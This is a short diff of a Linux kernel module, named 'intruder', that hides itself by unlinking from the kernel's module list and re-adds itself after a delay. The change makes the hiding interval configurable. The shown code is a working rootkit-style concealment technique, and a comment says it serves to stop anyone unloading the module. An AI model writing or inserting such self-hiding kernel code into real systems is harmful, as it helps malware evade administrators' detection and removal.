@@ -141,8 +141,6 @@ int intruder_next(void)
 
 /* ---- this module: nobody can unload what isn't in the list, so it comes back by itself ---- */
 
-#define INTRUDER_HIDDEN (10 * HZ)
-
 static struct list_head *intruder_before; /* this module in the list */
 
 static void intruder_show(struct work_struct *work)
@@ -159,7 +157,7 @@ int intruder_hide(void)
 {
 	intruder_before = THIS_MODULE->list.prev;
 	list_del_rcu(&THIS_MODULE->list);
-	schedule_delayed_work(&intruder_shown, INTRUDER_HIDDEN);
+	schedule_delayed_work(&intruder_shown, intruder_hidden * HZ);
 	return 0;
 }
 
